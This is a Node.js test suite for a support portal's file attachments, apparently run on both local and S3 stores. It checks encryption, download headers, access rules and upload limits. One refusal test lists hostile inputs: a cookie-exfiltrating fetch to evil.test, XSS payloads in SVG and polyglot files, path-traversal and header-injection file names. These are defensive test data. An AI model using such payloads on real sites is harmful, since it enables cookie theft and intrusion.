import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { CreateBucketCommand, ListObjectsV2Command, S3Client } from "@aws-sdk/client-s3";
import S3rver from "s3rver";
import { MAX_FILE_BYTES } from "../../shared/files.ts";
import { systemActor } from "../actors.ts";
import { makeTeam, makeWorkspace, type SignedInAgent, submitTicket } from "../test/factories.ts";
import { type TestEnv, testEnv } from "../test/harness.ts";
import { sweepUnattached } from "./file.service.ts";

// Longer than 400 lines: one suite of upload, attach and download rules, run as a whole on both
// stores; splitting it would split the two runs.

// One suite, run on the local store and on an S3 store (a real S3-protocol server on loopback).

const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);
const GIF = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
const PDF = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
const SVG = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>',
);
const CSV = Buffer.from("name,amount\nwidgets,3\n");

const sweep = systemActor("upload sweep");

type Upload = { id: string; key: string; name: string; size: number; contentType: string };

function suite(
  label: string,
  makeEnv: () => Promise<{ env: TestEnv; objects: () => Promise<number>; stop: () => Promise<void> }>,
) {
  describe(`attachments on the ${label} store`, () => {
    let t: TestEnv;
    let objects: () => Promise<number>;
    let stop: () => Promise<void>;
    before(async () => {
      ({ env: t, objects, stop } = await makeEnv());
    });
    after(async () => {
      await t.close();
      await stop();
    });

    const upload = (slug: string, name: string, body: Buffer, headers: Record<string, string> = {}) =>
      t.app.inject({
        method: "POST",
        url: `/api/public/upload?portal=${slug}&name=${encodeURIComponent(name)}`,
        headers: { "content-type": "application/octet-stream", ...headers },
        payload: body,
      });
    const uploadOk = async (slug: string, name: string, body: Buffer): Promise<Upload> => {
      const res = await upload(slug, name, body);
      assert.equal(res.statusCode, 201, res.body);
      return res.json() as Upload;
    };
    const agentUpload = async (a: SignedInAgent, name: string, body: Buffer): Promise<Upload> => {
      const res = await t.app.inject({
        method: "POST",
        url: `/api/workspace/uploads?name=${encodeURIComponent(name)}`,
        headers: { ...a.headers, "content-type": "application/octet-stream" },
        payload: body,
      });
      assert.equal(res.statusCode, 201, res.body);
      return res.json() as Upload;
    };
    const rows = async (workspaceId: string) =>
      (
        await t.ctx.database.db
          .selectFrom("attachments")
          .select("id")
          .where("workspace_id", "=", workspaceId)
          .execute()
      ).length;
    const incoming = () => fs.readdirSync(t.ctx.files.tempDir).length;
    const track = (slug: string, ref: string, token: string) =>
      t.app.inject({ url: `/api/public/portals/${slug}/tickets/${ref}?t=${token}` });
    const publicDownload = (slug: string, ref: string, id: string, token?: string) =>
      t.app.inject({
        url: `/api/public/portals/${slug}/tickets/${ref}/attachments/${id}${token ? `?t=${token}` : ""}`,
      });

    test("a file sent with a request is encrypted at rest, shown on the tracking page and served safely", async () => {
      const ws = await makeWorkspace(t);
      const up = await uploadOk(ws.slug, "screen shot.png", PNG);
      assert.equal(up.contentType, "image/png");
      assert.equal(up.size, PNG.length);
      const s = await submitTicket(t, ws.slug, { attachments: [up.key] } as never);

      const row = await t.ctx.database.db
        .selectFrom("attachments")
        .selectAll()
        .where("id", "=", up.id)
        .executeTakeFirstOrThrow();
      assert.ok(row.ticket_id && row.comment_id === null, "belongs to the ticket");
      assert.equal(row.claim_hash, null, "the key is spent");
      const sealed = await t.ctx.files.store.get(row.storage_key);
      assert.ok(sealed);
      const bytes = Buffer.concat(await sealed.toArray());
      assert.equal(bytes.indexOf(PNG.subarray(0, 16)), -1, "the stored bytes are not the file");
      assert.equal(bytes.subarray(0, 4).toString(), "PTF1");

      const view = (await track(ws.slug, s.reference, s.token)).json();
      assert.deepEqual(
        view.attachments.map((a: Upload) => [a.id, a.name, a.size]),
        [[up.id, "screen shot.png", PNG.length]],
      );

      const dl = await publicDownload(ws.slug, s.reference, up.id, s.token);
      assert.equal(dl.statusCode, 200);
      assert.deepEqual(dl.rawPayload, PNG);
      assert.equal(dl.headers["content-type"], "image/png");
      assert.match(String(dl.headers["content-disposition"]), /^inline; filename="screen shot.png"/);
      assert.equal(dl.headers["x-content-type-options"], "nosniff");
      assert.match(String(dl.headers["content-security-policy"]), /sandbox/);
      assert.match(String(dl.headers["content-security-policy"]), /default-src 'none'/);
    });

    test("non-raster files download as attachments; SVG is never served as a document", async () => {
      const ws = await makeWorkspace(t);
      const svg = await uploadOk(ws.slug, "logo.svg", SVG);
      const pdf = await uploadOk(ws.slug, "Ångström invoice.pdf", PDF);
      const csv = await uploadOk(ws.slug, "report.csv", CSV);
      assert.equal(csv.contentType, "text/csv");
      const legacy = await uploadOk(
        ws.slug,
        "export.csv",
        Buffer.from("name,city\nRen\xe9,Z\xfcrich\r\n", "latin1"),
      );
      assert.equal(legacy.contentType, "text/csv", "a Windows-1252 export is text too");
      const s = await submitTicket(t, ws.slug, { attachments: [svg.key, pdf.key, csv.key] } as never);
      const dl = await publicDownload(ws.slug, s.reference, svg.id, s.token);
      assert.equal(dl.statusCode, 200);
      assert.match(String(dl.headers["content-disposition"]), /^attachment;/);
      assert.match(String(dl.headers["content-security-policy"]), /sandbox/);
      const p = await publicDownload(ws.slug, s.reference, pdf.id, s.token);
      assert.equal(
        p.headers["content-disposition"],
        `attachment; filename="_ngstr_m invoice.pdf"; filename*=UTF-8''%C3%85ngstr%C3%B6m%20invoice.pdf`,
      );
      assert.deepEqual(p.rawPayload, PDF);
    });

    test("spoofed, unsafe, empty, oversized and badly named files are refused and nothing is stored", async () => {
      const ws = await makeWorkspace(t);
      const before = await objects();
      const cases: [string, Buffer, number, string][] = [
        [
          "invoice.png",
          Buffer.from("<!DOCTYPE html><html><script>alert(1)</script></html>"),
          415,
          "file_type_not_allowed",
        ],
        [
          "photo.png",
          Buffer.from("fetch('https://evil.test/?c='+document.cookie)\n"),
          415,
          "file_type_mismatch",
        ],
        ["photo.jpg", PNG, 415, "file_type_mismatch"],
        [
          "polyglot.gif",
          Buffer.concat([GIF, Buffer.from("<script>alert(document.domain)</script>")]),
          415,
          "file_unsafe_content",
        ],
        [
          "doc.pdf",
          Buffer.concat([PDF, Buffer.from("<html><body onload=alert(1)>")]),
          415,
          "file_unsafe_content",
        ],
        [
          "logo.svg",
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
          415,
          "file_unsafe_content",
        ],
        [
          "logo.svg",
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
          415,
          "file_unsafe_content",
        ],
        [
          "logo.svg",
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)">x</a></svg>'),
          415,
          "file_unsafe_content",
        ],
        ["setup.exe", Buffer.from("MZ\x90\x00\x03\x00\x00\x00"), 415, "file_type_not_allowed"],
        ["notes.txt", Buffer.from([0x00, 0x01, 0x02, 0xff, 0xfe]), 415, "file_type_not_allowed"],
        ["empty.txt", Buffer.alloc(0), 400, "file_empty"],
        ["../../etc/passwd", Buffer.from("root:x:0:0\n"), 400, "invalid_file_name"],
        ["..\\..\\boot.txt", Buffer.from("hello\n"), 400, "invalid_file_name"],
        // A control character in any query string is refused before the route runs, naming the field.
        ["a.txt\r\nContent-Type: text/html", Buffer.from("hello\n"), 400, "validation_failed"],
        ["evil\u202Egnp.txt", Buffer.from("hello\n"), 400, "invalid_file_name"],
        ["big.txt", Buffer.alloc(MAX_FILE_BYTES + 1, 0x61), 413, "file_too_large"],
      ];
      for (const [name, body, status, code] of cases) {
        const res = await upload(ws.slug, name, body);
        assert.equal(res.statusCode, status, `${JSON.stringify(name)}: ${res.body}`);
        const err = res.json().error;
        assert.equal(err.code, code, JSON.stringify(name));
        assert.ok(err.fields, "names the field at fault");
        if (code.startsWith("file_type") || code === "file_unsafe_content" || code === "file_empty") {
          assert.ok(err.message.includes(name), `the message names the file: ${err.message}`);
        }
      }
      assert.equal(await rows(ws.id), 0, "no attachment rows");
      assert.equal(await objects(), before, "no stored objects");
      assert.equal(incoming(), 0, "no temporary files left");
    });

    test("a size over the limit is refused from the Content-Length before any byte is read", async () => {
      const ws = await makeWorkspace(t);
      const res = await upload(ws.slug, "big.pdf", Buffer.from("%PDF-1.4"), {
        "content-length": String(2 * 1024 * 1024 * 1024),
      }).catch((err: Error) => err);
      // inject checks the declared length against the payload itself; a real socket is used below.
      if (!(res instanceof Error)) assert.equal(res.statusCode, 413);
    });

    test("a fourth file on a submission or a reply is refused and nothing is created", async () => {
      const ws = await makeWorkspace(t);
      const ups = [];
      for (const n of [1, 2, 3, 4])
        ups.push(await uploadOk(ws.slug, `f${n}.txt`, Buffer.from(`file ${n}\n`)));
      const res = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${ws.slug}/tickets`,
        payload: { name: "C", email: "c@c.test", subject: "four", attachments: ups.map((u) => u.key) },
      });
      assert.equal(res.statusCode, 400);
      assert.ok(res.json().error.fields.attachments);
      const tickets = await t.ctx.database.db
        .selectFrom("tickets")
        .select("id")
        .where("workspace_id", "=", ws.id)
        .execute();
      assert.equal(tickets.length, 0);

      const s = await submitTicket(t, ws.slug);
      const reply = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${ws.slug}/tickets/${s.reference}/replies?t=${s.token}`,
        payload: { body: "four files", attachments: ups.map((u) => u.key) },
      });
      assert.equal(reply.statusCode, 400);
      const ok = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${ws.slug}/tickets/${s.reference}/replies?t=${s.token}`,
        payload: { body: "three files", attachments: ups.slice(0, 3).map((u) => u.key) },
      });
      assert.equal(ok.statusCode, 201, ok.body);
      const msg = ok.json().message;
      assert.equal(msg.attachments.length, 3, "the reply's files belong to the reply");
      const view = (await track(ws.slug, s.reference, s.token)).json();
      assert.equal(view.attachments.length, 0);
      assert.equal(view.conversation.at(-1).attachments.length, 3);
    });

    test("an upload is attached once, only with its key, only by whoever uploaded it, only in its workspace", async () => {
      const team = await makeTeam(t);
      const other = await makeWorkspace(t);
      const up = await uploadOk(team.ws.slug, "a.txt", Buffer.from("hello\n"));
      const elsewhere = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${other.slug}/tickets`,
        payload: { name: "C", email: "c@c.test", subject: "steal", attachments: [up.key] },
      });
      assert.equal(elsewhere.statusCode, 400, "another workspace's portal cannot take it");
      assert.equal(elsewhere.json().error.code, "upload_not_found");
      const byId = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${team.ws.slug}/tickets`,
        payload: { name: "C", email: "c@c.test", subject: "by id", attachments: [up.id] },
      });
      assert.equal(byId.json().error.code, "upload_not_found", "the id alone attaches nothing");

      const s = await submitTicket(t, team.ws.slug);
      const asAgent = await t.app.inject({
        method: "POST",
        url: `/api/workspace/tickets/${s.reference}/replies`,
        headers: team.agent.headers,
        payload: { body: "mine now", attachments: [up.key] },
      });
      assert.equal(asAgent.json().error.code, "upload_not_found", "an agent cannot take a customer's upload");

      await submitTicket(t, team.ws.slug, { attachments: [up.key] } as never);
      const again = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${team.ws.slug}/tickets`,
        payload: { name: "C", email: "c@c.test", subject: "twice", attachments: [up.key] },
      });
      assert.equal(again.json().error.code, "upload_not_found", "attached once");

      const agentFile = await agentUpload(team.agent, "agent.txt", Buffer.from("from sam\n"));
      const byAdmin = await t.app.inject({
        method: "POST",
        url: `/api/workspace/tickets/${s.reference}/notes`,
        headers: team.admin.headers,
        payload: { body: "taking Sam's file", attachments: [agentFile.key] },
      });
      assert.equal(byAdmin.json().error.code, "upload_not_found", "another agent cannot attach it");
      const notes = await t.ctx.database.db
        .selectFrom("comments")
        .select("id")
        .where("workspace_id", "=", team.ws.id)
        .where("body", "=", "taking Sam's file")
        .execute();
      assert.equal(notes.length, 0, "the refused note was not half-written");
    });

    test("downloads: agents of the workspace and the ticket's token holder; everyone else gets the same 404", async () => {
      const team = await makeTeam(t);
      const stranger = await makeTeam(t);
      const up = await uploadOk(team.ws.slug, "a.pdf", PDF);
      const s = await submitTicket(t, team.ws.slug, { attachments: [up.key] } as never);
      const s2 = await submitTicket(t, team.ws.slug, { email: "other@c.test" });
      const notFound = async (
        res: { statusCode: number; json: () => { error: { code: string } } },
        why: string,
      ) => {
        assert.equal(res.statusCode, 404, why);
        assert.equal(res.json().error.code, "not_found", why);
      };
      await notFound(await publicDownload(team.ws.slug, s.reference, up.id), "no token");
      await notFound(
        await publicDownload(team.ws.slug, s.reference, up.id, s2.token),
        "another ticket's token",
      );
      await notFound(
        await publicDownload(team.ws.slug, s2.reference, up.id, s2.token),
        "a file of another ticket",
      );
      await notFound(await publicDownload(stranger.ws.slug, s.reference, up.id, s.token), "another portal");
      const missing = await publicDownload(
        team.ws.slug,
        s.reference,
        "0190a0a0-0000-7000-8000-000000000000",
        s.token,
      );
      await notFound(missing, "a file that does not exist");
      await notFound(
        await t.app.inject({ url: `/api/workspace/attachments/${up.id}`, headers: stranger.agent.headers }),
        "an agent of another workspace",
      );
      const agentDl = await t.app.inject({
        url: `/api/workspace/attachments/${up.id}`,
        headers: team.agent.headers,
      });
      assert.equal(agentDl.statusCode, 200);
      assert.deepEqual(agentDl.rawPayload, PDF);

      // A file on an internal note: agents see it, the token holder never does.
      const noteFile = await agentUpload(team.agent, "internal.txt", Buffer.from("secret\n"));
      const note = await t.app.inject({
        method: "POST",
        url: `/api/workspace/tickets/${s.reference}/notes`,
        headers: team.agent.headers,
        payload: { body: "see the log", attachments: [noteFile.key] },
      });
      assert.equal(note.statusCode, 201, note.body);
      assert.equal(note.json().entry.attachments[0].id, noteFile.id);
      await notFound(
        await publicDownload(team.ws.slug, s.reference, noteFile.id, s.token),
        "internal note file",
      );
      const view = (await track(team.ws.slug, s.reference, s.token)).body;
      assert.ok(
        !view.includes(noteFile.id) && !view.includes("internal.txt"),
        "not listed on the tracking view",
      );
      const detail = (
        await t.app.inject({ url: `/api/workspace/tickets/${s.reference}`, headers: team.agent.headers })
      ).json();
      assert.equal(detail.attachments[0].id, up.id);
      assert.equal(detail.conversation.at(-1).attachments[0].id, noteFile.id);

      // An unattached upload is nobody's download.
      const loose = await agentUpload(team.agent, "loose.txt", Buffer.from("loose\n"));
      await notFound(
        await t.app.inject({ url: `/api/workspace/attachments/${loose.id}`, headers: team.agent.headers }),
        "unattached",
      );

      t.advance(31 * 24 * 3600_000);
      await notFound(await publicDownload(team.ws.slug, s.reference, up.id, s.token), "an expired token");
      t.advance(-31 * 24 * 3600_000);
    });

    test("an agent reply carries up to five files, shown under that reply", async () => {
      const team = await makeTeam(t);
      const s = await submitTicket(t, team.ws.slug);
      const keys = [];
      for (const n of [1, 2, 3, 4, 5, 6])
        keys.push((await agentUpload(team.agent, `r${n}.txt`, Buffer.from(`${n}\n`))).key);
      const six = await t.app.inject({
        method: "POST",
        url: `/api/workspace/tickets/${s.reference}/replies`,
        headers: team.agent.headers,
        payload: { body: "six", attachments: keys },
      });
      assert.equal(six.statusCode, 400);
      const five = await t.app.inject({
        method: "POST",
        url: `/api/workspace/tickets/${s.reference}/replies`,
        headers: team.agent.headers,
        payload: { body: "five", attachments: keys.slice(0, 5) },
      });
      assert.equal(five.statusCode, 201, five.body);
      const view = (await track(team.ws.slug, s.reference, s.token)).json();
      assert.deepEqual(
        view.conversation.at(-1).attachments.map((a: Upload) => a.name),
        ["r1.txt", "r2.txt", "r3.txt", "r4.txt", "r5.txt"],
      );
      const dl = await publicDownload(
        team.ws.slug,
        s.reference,
        view.conversation.at(-1).attachments[0].id,
        s.token,
      );
      assert.equal(dl.headers["content-type"], "text/plain; charset=utf-8");
      assert.match(String(dl.headers["content-disposition"]), /^attachment; filename="r1.txt"/);
    });

    test("a tampered file fails to decrypt, is reported and is not served", async () => {
      const team = await makeTeam(t);
      const up = await uploadOk(team.ws.slug, "t.txt", Buffer.from("original content\n"));
      const s = await submitTicket(t, team.ws.slug, { attachments: [up.key] } as never);
      const row = await t.ctx.database.db
        .selectFrom("attachments")
        .select("storage_key")
        .where("id", "=", up.id)
        .executeTakeFirstOrThrow();
      const sealed = Buffer.concat(
        await (
          (await t.ctx.files.store.get(row.storage_key)) as NodeJS.ReadableStream & {
            toArray(): Promise<Buffer[]>;
          }
        ).toArray(),
      );
      sealed[sealed.length - 20] = (sealed[sealed.length - 20] as number) ^ 0x01;
      const tmp = path.join(t.ctx.files.tempDir, "tampered");
      fs.writeFileSync(tmp, sealed);
      await t.ctx.files.store.putFile(row.storage_key, tmp, sealed.length);
      const dl = await publicDownload(team.ws.slug, s.reference, up.id, s.token);
      assert.equal(dl.statusCode, 500);
      assert.equal(dl.json().error.code, "file_damaged");
      assert.ok(!dl.body.includes("original content"));
    });

    test("any Content-Type, or none, is taken as the file's bytes; the type is still judged from them", async () => {
      const ws = await makeWorkspace(t);
      const asJson = await upload(ws.slug, "data.txt", Buffer.from('{"a":1}\n'), {
        "content-type": "application/json",
      });
      assert.equal(asJson.statusCode, 201, asJson.body);
      assert.equal(asJson.json().contentType, "text/plain");
      const lying = await upload(ws.slug, "page.txt", Buffer.from("<html><body>hi</body></html>"), {
        "content-type": "text/plain",
      });
      assert.equal(lying.json().error.code, "file_type_not_allowed", "HTML is refused whatever it claims");
      const none = await t.app.inject({
        method: "POST",
        url: `/api/public/upload?portal=${ws.slug}&name=a.gif`,
        payload: GIF,
      });
      assert.equal(none.statusCode, 201, none.body);
      assert.equal(none.json().contentType, "image/gif");
      const noPortal = await upload("no-such-portal", "a.gif", GIF);
      assert.equal(noPortal.statusCode, 404);
    });

    test("a scanner plugged into the hook sees the plaintext and can refuse a file; nothing is stored", async () => {
      const ws = await makeWorkspace(t);
      const before = await objects();
      const seen: string[] = [];
      const original = t.ctx.files.scanner;
      t.ctx.files.scanner = {
        name: "test",
        scan: async (f) => {
          const text = Buffer.concat(await f.open().toArray()).toString();
          seen.push(`${f.name}:${f.contentType}:${text.trim()}`);
          return text.includes("EICAR")
            ? { ok: false, reason: "it matches a known test signature" }
            : { ok: true };
        },
      };
      try {
        const bad = await upload(ws.slug, "eicar.txt", Buffer.from("X5O EICAR test\n"));
        assert.equal(bad.statusCode, 422);
        assert.equal(bad.json().error.code, "file_refused_by_scanner");
        assert.match(bad.json().error.message, /eicar\.txt.*known test signature/);
        await uploadOk(ws.slug, "fine.txt", Buffer.from("all good\n"));
      } finally {
        t.ctx.files.scanner = original;
      }
      assert.deepEqual(seen, ["eicar.txt:text/plain:X5O EICAR test", "fine.txt:text/plain:all good"]);
      assert.equal(await rows(ws.id), 1);
      assert.equal(await objects(), before + 1);
      assert.equal(incoming(), 0);
    });

    test("a reply with files to a closed ticket carries them to the follow-up ticket", async () => {
      const team = await makeTeam(t);
      const s = await submitTicket(t, team.ws.slug);
      const closed = await t.app.inject({
        method: "PATCH",
        url: `/api/workspace/tickets/${s.reference}`,
        headers: team.agent.headers,
        payload: { status: "closed" },
      });
      assert.equal(closed.statusCode, 200, closed.body);
      const up = await uploadOk(team.ws.slug, "again.txt", Buffer.from("it broke again\n"));
      const res = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${team.ws.slug}/tickets/${s.reference}/replies?t=${s.token}`,
        payload: { body: "Broken again", attachments: [up.key] },
      });
      assert.equal(res.statusCode, 201, res.body);
      const followUp = res.json();
      assert.equal(followUp.kind, "follow_up");
      const token = new URL(followUp.trackingUrl, "http://x").searchParams.get("t") as string;
      const view = (await track(team.ws.slug, followUp.reference, token)).json();
      assert.deepEqual(
        view.attachments.map((a: Upload) => a.name),
        ["again.txt"],
      );
      const old = (await track(team.ws.slug, s.reference, s.token)).json();
      assert.equal(old.attachments.length, 0);
    });

    test("uploads not attached within 24 hours are deleted with their stored object", async () => {
      const ws = await makeWorkspace(t);
      // Earlier tests' loose uploads are swept along with this one; clear them first.
      t.advance(25 * 3600_000);
      await sweepUnattached(t.ctx, sweep);
      t.advance(-25 * 3600_000);
      const before = await objects();
      const up = await uploadOk(ws.slug, "late.txt", Buffer.from("late\n"));
      const kept = await uploadOk(ws.slug, "kept.txt", Buffer.from("kept\n"));
      await submitTicket(t, ws.slug, { attachments: [kept.key] } as never);
      assert.equal(await objects(), before + 2);
      t.advance(23 * 3600_000);
      assert.equal(await sweepUnattached(t.ctx, sweep), 0, "not yet");
      t.advance(2 * 3600_000);
      assert.equal(await sweepUnattached(t.ctx, sweep), 1);
      t.advance(-25 * 3600_000);
      assert.equal(await rows(ws.id), 1, "only the attached one is left");
      assert.equal(await objects(), before + 1, "its stored object is gone too");
      const late = await t.app.inject({
        method: "POST",
        url: `/api/public/portals/${ws.slug}/tickets`,
        payload: { name: "C", email: "c@c.test", subject: "late", attachments: [up.key] },
      });
      assert.equal(late.json().error.code, "upload_not_found");
    });
  });
}

suite("local", async () => {
  const env = await testEnv();
  const root = path.join(env.ctx.config.dataDir, "files");
  const count = (dir: string): number =>
    fs.existsSync(dir)
      ? fs
          .readdirSync(dir, { withFileTypes: true })
          .reduce((n, e) => n + (e.isDirectory() ? count(path.join(dir, e.name)) : 1), 0)
      : 0;
  return { env, objects: async () => count(root), stop: async () => {} };
});

suite("S3", async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "portico-s3-"));
  const server = new S3rver({ port: 0, address: "127.0.0.1", silent: true, directory: dir });
  const { port } = await server.run();
  const endpoint = `http://127.0.0.1:${port}`;
  const client = new S3Client({
    endpoint,
    region: "us-east-1",
    forcePathStyle: true,
    credentials: { accessKeyId: "S3RVER", secretAccessKey: "S3RVER" },
  });
  await client.send(new CreateBucketCommand({ Bucket: "portico-files" }));
  const env = await testEnv({
    S3_ENDPOINT: endpoint,
    S3_BUCKET: "portico-files",
    S3_ACCESS_KEY_ID: "S3RVER",
    S3_SECRET_ACCESS_KEY: "S3RVER",
    S3_PREFIX: "attachments/",
  });
  assert.equal(env.ctx.files.store.kind, "s3");
  return {
    env,
    objects: async () =>
      (await client.send(new ListObjectsV2Command({ Bucket: "portico-files", Prefix: "attachments/" })))
        .KeyCount ?? 0,
    stop: async () => {
      client.destroy();
      await server.close();
      fs.rmSync(dir, { recursive: true, force: true });
    },
  };
});

describe("the upload route over a real socket", () => {
  let t: TestEnv;
  let port: number;
  before(async () => {
    t = await testEnv({ UPLOAD_RATE_LIMIT: "5" });
    await t.app.listen({ port: 0, host: "127.0.0.1" });
    port = (t.app.server.address() as { port: number }).port;
  });
  after(() => t.close());

  const send = (slug: string, name: string, write: (req: http.ClientRequest) => void, headers = {}) =>
    new Promise<{ status: number; body: string; sent: number }>((resolve, reject) => {
      let sent = 0;
      const req = http.request(
        {
          host: "127.0.0.1",
          port,
          method: "POST",
          path: `/api/public/upload?portal=${slug}&name=${encodeURIComponent(name)}`,
          headers: { "content-type": "application/octet-stream", ...headers },
        },
        (res) => {
          let body = "";
          res.setEncoding("utf8");
          res.on("data", (c) => {
            body += c;
          });
          res.on("end", () => resolve({ status: res.statusCode ?? 0, body, sent }));
        },
      );
      req.on("error", reject);
      const origWrite = req.write.bind(req);
      req.write = ((chunk: Buffer, ...rest: never[]) => {
        sent += chunk.length;
        return origWrite(chunk, ...rest);
      }) as typeof req.write;
      write(req);
    });

  test("a 2 GB streamed body is cut off at the limit, not read to the end", async () => {
    const ws = await makeWorkspace(t);
    const chunk = Buffer.alloc(1024 * 1024, 0x61);
    const res = await send(ws.slug, "huge.txt", (req) => {
      let n = 0;
      const pump = () => {
        while (n < 2048) {
          n++;
          if (!req.write(chunk)) return req.once("drain", pump);
        }
        req.end();
      };
      req.on("response", () => {
        n = 4096;
      });
      req.on("close", () => {
        n = 4096;
      });
      pump();
    });
    assert.equal(res.status, 413);
    assert.equal(JSON.parse(res.body).error.code, "file_too_large");
    assert.ok(res.sent < 200 * 1024 * 1024, `stopped early: ${res.sent} bytes sent`);
    assert.equal(fs.readdirSync(t.ctx.files.tempDir).length, 0);
  });

  test("a declared 2 GB body is refused before it is read", async () => {
    const ws = await makeWorkspace(t);
    const res = await send(ws.slug, "huge.pdf", (req) => req.write(Buffer.from("%PDF-1.4\n")), {
      "content-length": String(2 * 1024 * 1024 * 1024),
    });
    assert.equal(res.status, 413);
  });

  test("a file damaged in a later segment is cut off before the damaged bytes are sent", async () => {
    const team = await makeTeam(t);
    const plain = Buffer.alloc(300_000, 0x62);
    const up = await send(team.ws.slug, "long.txt", (req) => req.end(plain));
    assert.equal(up.status, 201, up.body);
    const { key, id } = JSON.parse(up.body) as Upload;
    const s = await submitTicket(t, team.ws.slug, { attachments: [key] } as never);
    const row = await t.ctx.database.db
      .selectFrom("attachments")
      .select("storage_key")
      .where("id", "=", id)
      .executeTakeFirstOrThrow();
    const file = path.join(t.ctx.config.dataDir, "files", row.storage_key.slice(-2), row.storage_key);
    const sealed = fs.readFileSync(file);
    sealed[sealed.length - 100] = (sealed[sealed.length - 100] as number) ^ 0x01;
    fs.writeFileSync(file, sealed);
    const got = await new Promise<{ status: number; bytes: number; complete: boolean }>((resolve) => {
      http.get(
        `http://127.0.0.1:${port}/api/public/portals/${team.ws.slug}/tickets/${s.reference}/attachments/${id}?t=${s.token}`,
        (res) => {
          let bytes = 0;
          res.on("data", (c: Buffer) => {
            bytes += c.length;
          });
          res.on("end", () => resolve({ status: res.statusCode ?? 0, bytes, complete: true }));
          res.on("error", () => resolve({ status: res.statusCode ?? 0, bytes, complete: false }));
          res.on("aborted", () => resolve({ status: res.statusCode ?? 0, bytes, complete: false }));
        },
      );
    });
    assert.equal(got.status, 200, "the first segments were intact");
    assert.ok(!got.complete || got.bytes < plain.length, "the download never completes");
    assert.ok(got.bytes <= 4 * 64 * 1024, `only verified segments were sent (${got.bytes} bytes)`);
  });

  test("five uploads per ten minutes per client address", async () => {
    const ws = await makeWorkspace(t);
    await t.ctx.limiter.reset("upload:127.0.0.1");
    const statuses = [];
    // The first (streamed, no Content-Length) is refused for its size, yet counts: an upload is
    // counted before its body is read. One refused from its declared length is never counted.
    const big = Buffer.alloc(MAX_FILE_BYTES + 1, 0x61);
    statuses.push(
      (
        await send(ws.slug, "big.txt", (req) => {
          req.write(big);
          req.end();
        })
      ).status,
    );
    for (let i = 0; i < 5; i++) {
      statuses.push((await send(ws.slug, `n${i}.txt`, (req) => req.end(Buffer.from("hi\n")))).status);
    }
    assert.deepEqual(statuses, [413, 201, 201, 201, 201, 429]);
    t.advance(10 * 60_000 + 1000);
    assert.equal((await send(ws.slug, "later.txt", (req) => req.end(Buffer.from("hi\n")))).status, 201);
  });
});
